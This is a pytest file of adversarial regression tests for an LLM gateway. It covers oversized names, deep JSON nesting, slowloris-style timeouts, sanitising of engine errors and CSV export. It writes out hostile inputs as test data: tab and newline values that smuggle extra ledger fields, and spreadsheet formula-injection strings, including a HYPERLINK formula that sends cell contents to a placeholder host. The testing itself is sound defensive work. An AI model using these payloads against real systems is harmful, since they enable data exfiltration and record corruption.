"""Hostile input against a real gateway (uvicorn, tenancy, cache, tiers) in front of fake engines.

Whatever a client sends, the gateway answers without a 5xx or a traceback, and what it keeps (metric
series, ledger rows, session table) does not grow with what clients choose to send. Each test here is
a defect found by an adversarial review (issue 14) that must not come back.
"""

from __future__ import annotations

import asyncio
import csv
import io
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import httpx
import orjson
import pytest
from aiohttp import web
from prometheus_client.parser import text_string_to_metric_families

from fleetgate.cache.config import CacheConfig, SemanticConfig
from fleetgate.gateway.settings import GatewaySettings
from fleetgate.gateway.tenancy.keys import new_key
from fleetgate.gateway.tenancy.ledger import FIELDS, MemoryLedger, UsageRow, decode_field, encode_field
from fleetgate.gateway.tenancy.report import usage_csv, usage_json
from fleetgate.sim.fake_engine import FakeEngine

from .conftest import RunningGateway

Start = Callable[..., Awaitable[Any]]
KEYS = {name: new_key() for name in ("acme", "open", "admin")}
PRICE = {"input_usd_per_1m": "1", "output_usd_per_1m": "2"}
SMALL = {"name": "small", "model": "m1", "input_usd_per_mtok": 0.1, "output_usd_per_mtok": 0.4}
LARGE = {"name": "large", "model": "m2", "input_usd_per_mtok": 1.0, "output_usd_per_mtok": 4.0}
TRACEBACK_MARKERS = ("Traceback", 'File "', "/usr/", "site-packages")


def settings(url1: str, url2: str, **server: Any) -> GatewaySettings:
    return GatewaySettings.model_validate({
        "server": {"auth": "api_key", "header_timeout_s": 0.5, "body_timeout_s": 0.5, **server},
        "models": [{"name": "m1", "endpoints": [url1]}, {"name": "m2", "endpoints": [url2]}],
        "tiers": {"aliases": {"auto": {"tiers": [SMALL, LARGE], "route": "strongest",
                                       "cascade": {"enabled": True}}},
                  "embedding": "reuse_only"},
        "cache": CacheConfig(store_truncated=True, semantic=SemanticConfig(embedder="hashing")).model_dump(),
        "tenancy": {
            "admin_key_hashes": [KEYS["admin"][1]],
            "tenants": [{"id": "acme", "key_hashes": [KEYS["acme"][1]], "models": ["m1", "auto"]},
                        {"id": "open", "key_hashes": [KEYS["open"][1]]}],
            "prices": {"m1": PRICE, "m2": PRICE},
        },
    })


def auth(name: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {KEYS[name][0]}"}


def chat(model: str = "m1", **extra: Any) -> dict[str, Any]:
    return {"model": model, "messages": [{"role": "user", "content": "hello there"}], "max_tokens": 3, **extra}


def deep_body(body: dict[str, Any], levels: int, *, field: str = "extra") -> bytes:
    """`body` with `field` nested `levels` deep (built as text: encoders refuse such depths)."""
    nested = b'{"a":' * levels + b"0" + b"}" * levels
    return orjson.dumps(body)[:-1] + b',"' + field.encode() + b'":' + nested + b"}"


def assert_clean(r: httpx.Response) -> None:
    """No 5xx, a request id, and no traceback or internal path in the body."""
    assert r.status_code < 500, r.text[:500]
    assert r.headers.get("x-request-id"), r.headers
    for marker in TRACEBACK_MARKERS:
        assert marker not in r.text, r.text[:500]


def series(text: str) -> set[tuple[str, tuple[tuple[str, str], ...]]]:
    return {(s.name, tuple(sorted(s.labels.items())))
            for family in text_string_to_metric_families(text) for s in family.samples}


@pytest.fixture
async def gw(start_engine: Start, start_gateway: Start) -> RunningGateway:
    e1: FakeEngine = await start_engine(model="m1")
    e2: FakeEngine = await start_engine(model="m2")
    gateway: RunningGateway = await start_gateway(settings(e1.url, e2.url))
    return gateway


def hostile_requests() -> list[tuple[dict[str, str], bytes]]:
    """300 requests an attacker with a valid key (and some without) might send."""
    huge = "m" * 100_000
    bodies: list[tuple[dict[str, str], dict[str, Any] | bytes]] = [
        (auth("acme"), chat(huge)),  # refused (403) with a 100 KB name
        (auth("open"), chat(huge + "x")),  # unknown (404) with a 100 KB name
        (auth("acme"), chat("m2\tauto\tcost_micros")),  # tab-separated: would split a ledger field
        (auth("open"), chat("evil\nname\r\n")),
        (auth("acme"), chat('=HYPERLINK("http://x/?"&A1,"click")')),
        (auth("open"), chat(user="u" * 200_000)),  # giant session key, served
        (auth("open"), deep_body(chat(), 300)),  # deep nesting in a pass-through field
        (auth("open"), deep_body(chat(stream=True), 300)),
        (auth("open"), chat(messages=[{"role": "wizard", "content": "x"}])),
        (auth("open"), chat(temperature="abc")),
        (auth("open"), chat(messages=[{"role": "user", "content": [{"type": "text", "text": 5}]}])),
        (auth("open"), chat(n=10_000)),
        ({}, chat(huge)),  # unauthenticated
    ]
    out = []
    for i in range(300):
        headers, body = bodies[i % len(bodies)]
        raw = body if isinstance(body, bytes) else orjson.dumps(body)
        out.append(({**headers, "x-session-id": f"s{i}" * 1000}, raw))
    return out


async def test_300_hostile_requests_no_5xx_no_traceback_and_bounded_state(gw: RunningGateway) -> None:
    async with httpx.AsyncClient(base_url=gw.url, timeout=30) as c:
        # Warm up once with each kind of request, so that every label set a refusal may create exists.
        for headers, body in hostile_requests()[:13]:
            assert_clean(await c.post("/v1/chat/completions", content=body, headers=headers))
        await gw.pipeline.drain()
        before = (await c.get(gw.metrics_url)).text
        statuses: dict[int, int] = {}
        sem = asyncio.Semaphore(8)

        async def send(headers: dict[str, str], body: bytes) -> None:
            async with sem:
                r = await c.post("/v1/chat/completions", content=body, headers=headers)
            assert_clean(r)
            statuses[r.status_code] = statuses.get(r.status_code, 0) + 1

        await asyncio.gather(*(send(h, b) for h, b in hostile_requests()))
        await gw.pipeline.drain()
        after = (await c.get(gw.metrics_url)).text
        usage = await c.get("/v1/usage", headers=auth("admin"))
        csv_text = await c.get("/v1/usage", params={"format": "csv"}, headers=auth("admin"))
    assert max(statuses) < 500 and {200, 400, 401, 403, 404} <= set(statuses)
    assert series(after) == series(before)  # no new label values, whatever the names sent
    assert len(after) < 2 * len(before) and "m" * 1000 not in after
    assert usage.status_code == 200 and csv_text.status_code == 200
    models = {row["model"] for row in usage.json()["data"]}
    assert models <= {"m1", "m2", "_refused", "_unknown"}, models
    assert {"_refused", "_unknown"} <= models


async def test_deep_nesting_is_400_streaming_or_not_even_with_the_cache_on(gw: RunningGateway) -> None:
    async with httpx.AsyncClient(base_url=gw.url) as c:
        for stream in (False, True):
            for levels in (255, 260, 5_000):
                body = deep_body(chat(stream=stream), levels, field="tools")
                r = await c.post("/v1/chat/completions", content=body, headers=auth("open"))
                assert_clean(r)
                message = r.json()["error"]["message"]
                assert r.status_code == 400 and ("nests deeper" in message or "depth limit" in message), message


async def test_unauthenticated_big_body_is_refused_before_it_is_read(gw: RunningGateway) -> None:
    """The 401 arrives while the client is still sending its 4 MB: the body was never waited for, let
    alone parsed."""
    host, port = gw.url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    size = 4 * 1024 * 1024 - 100
    writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
                 b"content-length: " + str(size).encode() + b"\r\n\r\n" + b"{" + b" " * 1000)
    await writer.drain()
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
    assert head.startswith(b"HTTP/1.1 401"), head
    writer.close()


async def test_unknown_extra_fields_still_pass_through_to_the_engine(start_engine: Start, start_gateway: Start) -> None:
    e1: FakeEngine = await start_engine(model="m1")
    e2: FakeEngine = await start_engine(model="m2")
    gw: RunningGateway = await start_gateway(settings(e1.url, e2.url))
    async with httpx.AsyncClient(base_url=gw.url) as c:
        r = await c.post("/v1/chat/completions", json=chat(top_k=5, min_p=0.1, guided_choice=["a"]),
                         headers=auth("open"))
    assert r.status_code == 200
    assert e1.received[-1].body["top_k"] == 5 and e1.received[-1].body["guided_choice"] == ["a"]


@pytest.mark.parametrize("stream", [False, True])
async def test_alias_never_serves_a_model_the_tenant_may_not_use(
    start_engine: Start, start_gateway: Start, stream: bool
) -> None:
    """acme may use [m1, auto]; `auto` routes to the strongest tier (m2) and cascades: acme is served by m1,
    directly, through fallbacks (m1 down: no m2 either) and through the cascade."""
    e1: FakeEngine = await start_engine(model="m1")
    e2: FakeEngine = await start_engine(model="m2")
    gw: RunningGateway = await start_gateway(settings(e1.url, e2.url))
    async with httpx.AsyncClient(base_url=gw.url) as c:
        r = await c.post("/v1/chat/completions", json=chat("auto", stream=stream), headers=auth("acme"))
        assert r.status_code == 200 and r.headers["x-fleetgate-model"] == "m1"
        assert len(e2.received) == 0
        other = await c.post("/v1/chat/completions", json=chat("auto", stream=stream), headers=auth("open"))
        assert other.headers["x-fleetgate-model"] == "m2"  # unrestricted tenants still get the strong tier
        await e1.stop()
        down = await c.post("/v1/chat/completions", json=chat("auto", stream=stream), headers=auth("acme"))
        assert down.status_code == 503 and len(e2.received) == 1  # only `open`'s request reached m2
        direct = await c.post("/v1/chat/completions", json=chat("m2", stream=stream), headers=auth("acme"))
        assert direct.status_code == 403


async def test_metrics_are_not_on_the_client_port(gw: RunningGateway) -> None:
    async with httpx.AsyncClient(base_url=gw.url) as c:
        assert (await c.get("/metrics")).status_code == 404
        assert (await c.get("/metrics", headers=auth("admin"))).status_code == 404
        scraped = await c.get(gw.metrics_url)
    assert scraped.status_code == 200 and "fleetgate_requests_in_flight" in scraped.text
    assert gw.metrics_url.rsplit(":", 1)[1] != gw.url.rsplit(":", 1)[1]


async def test_slow_headers_and_slow_body_get_408_and_are_disconnected(gw: RunningGateway) -> None:
    host, port = gw.url.removeprefix("http://").split(":")
    started = time.monotonic()
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\n")  # headers never finish
    answer = await asyncio.wait_for(reader.read(), 5)  # read() returns at EOF: the gateway closed it
    assert answer.startswith(b"HTTP/1.1 408") and b'"code":"request_timeout"' in answer
    assert time.monotonic() - started < 3
    writer.close()

    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-length: 1000\r\n"
                 + f"authorization: Bearer {KEYS['open'][0]}\r\n\r\n".encode() + b'{"model":')
    answer = await asyncio.wait_for(reader.read(), 5)
    assert answer.startswith(b"HTTP/1.1 408") and b'"code":"request_timeout"' in answer
    writer.close()


async def test_http_parser_errors_are_openai_shaped(gw: RunningGateway) -> None:
    host, port = gw.url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(b"GARBAGE \x00\x01 NOT-HTTP\r\n\r\n")
    answer = await asyncio.wait_for(reader.read(), 5)
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 400") and b"application/json" in head
    assert orjson.loads(body)["error"]["code"] == "invalid_http"
    writer.close()


async def test_usage_errors_carry_a_request_id(gw: RunningGateway) -> None:
    async with httpx.AsyncClient(base_url=gw.url) as c:
        for path in ("/v1/usage", "/v1/usage/budgets"):
            r = await c.get(path, headers={"x-request-id": "abc-123"})
            assert r.status_code == 401 and r.headers["x-request-id"] == "abc-123"
        r = await c.get("/v1/usage", params={"start": "nope"}, headers=auth("admin"))
        assert r.status_code == 400 and r.headers["x-request-id"]


# ---- engine error bodies --------------------------------------------------------------------------------


@pytest.fixture
async def bad_engine() -> AsyncIterator[tuple[str, dict[str, Any]]]:
    """An engine answering whatever `answer` says: status, body, headers."""
    answer: dict[str, Any] = {}

    async def completion(request: web.Request) -> web.Response:
        return web.Response(status=answer["status"], body=answer["body"], headers=answer.get("headers", {}),
                            content_type="application/json")

    app = web.Application()
    app.router.add_post("/v1/chat/completions", completion)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
    yield f"http://127.0.0.1:{port}", answer
    await runner.cleanup()


TRACE = ('Traceback (most recent call last):\n  File "/opt/vllm/entrypoints/openai/serving.py", line 3, in x\n'
         "RuntimeError: CUDA error at 10.0.3.7:8000")


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    ("status", "body", "shown"),
    [
        (500, orjson.dumps({"error": {"message": TRACE, "type": "InternalServerError", "code": 500}}), None),
        (400, orjson.dumps({"object": "error", "message": TRACE, "code": 400}), None),
        (400, orjson.dumps({"error": {"message": "context too long; see http://10.1.2.3:8000/docs", "code": 400}}),
         "context too long; see <url>"),
        (502, TRACE.encode(), None),
    ],
)
async def test_engine_error_bodies_are_sanitized(
    bad_engine: tuple[str, dict[str, Any]], start_gateway: Start, status: int, body: bytes, shown: str | None,
    stream: bool,
) -> None:
    url, answer = bad_engine
    answer.update(status=status, body=body)
    gw: RunningGateway = await start_gateway(settings(url, url))
    async with httpx.AsyncClient(base_url=gw.url) as c:
        r = await c.post("/v1/chat/completions", json=chat(stream=stream), headers=auth("open"))
    assert r.status_code == status
    assert "10.0.3.7" not in r.text and "Traceback" not in r.text and "/opt/vllm" not in r.text
    message = r.json()["error"]["message"]
    assert message == shown if shown is not None else f"HTTP {status}" in message


async def test_engine_429_retry_after_is_relayed(bad_engine: tuple[str, dict[str, Any]], start_gateway: Start) -> None:
    url, answer = bad_engine
    answer.update(status=429, body=orjson.dumps({"error": {"message": "too many requests", "code": 429}}),
                  headers={"Retry-After": "7"})
    gw: RunningGateway = await start_gateway(settings(url, url))
    async with httpx.AsyncClient(base_url=gw.url) as c:
        r = await c.post("/v1/chat/completions", json=chat(), headers=auth("open"))
    assert r.status_code == 429 and r.headers["Retry-After"] == "7"
    assert r.json()["error"]["message"] == "too many requests"


# ---- the usage ledger and its reports -------------------------------------------------------------------


def test_ledger_fields_round_trip_any_name_and_reject_foreign_ones() -> None:
    for model, tier in [("a\tb", "t\nx"), ("50%\r", ""), ("%09", "%25"), ("plain/name:1", "small")]:
        field = encode_field(model, tier, "requests")
        assert field.count("\t") == 2
        assert decode_field(field) == (model, tier, "requests")
    assert decode_field("m\tt\tnot_a_field") is None
    assert decode_field("only-one-part") is None


@pytest.mark.redis
async def test_redis_ledger_reads_past_malformed_fields(redis_url: str) -> None:
    from redis.asyncio import Redis

    from fleetgate.gateway.tenancy.ledger import RedisLedger

    client = Redis.from_url(redis_url)
    try:
        ledger = RedisLedger(client, prefix="t:", retention_days=1)
        await ledger.add(day="2026-01-01", tenant="acme", model="m\t1", tier="", values={"requests": 2})
        key = "t:usage:{2026-01-01}:acme"
        await client.hset(key, mapping={"m\ttier\tcost_micros\textra": 5, "x\ty\trequests": "NaN", "junk": 1})
        rows = await ledger.read(days=["2026-01-01"], tenant=None)
    finally:
        await client.aclose()
    assert [(r.model, r.values["requests"]) for r in rows] == [("m\t1", 2)]


async def test_usage_reports_survive_odd_names_and_csv_neutralises_formulas() -> None:
    ledger = MemoryLedger()
    names = ['=HYPERLINK("http://x","y")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "ok"]
    for name in names:
        await ledger.add(day="2026-01-01", tenant="acme", model=name, tier=name, values={"requests": 1})
    rows: list[UsageRow] = await ledger.read(days=["2026-01-01"], tenant=None)
    report = usage_json(rows, days=["2026-01-01"], scope="all")
    assert report["totals"]["requests"] == len(names)
    cells = list(csv.reader(io.StringIO(usage_csv(rows), newline="")))
    header, body = cells[0], cells[1:]
    assert header[:5] == ["date", "tenant", "model", "tier", "base"] and len(header) == 5 + len(FIELDS) + 3
    for row in body:
        for cell in row[:5]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert {row[2] for row in body} == {"'" + n if n != "ok" else n for n in names}
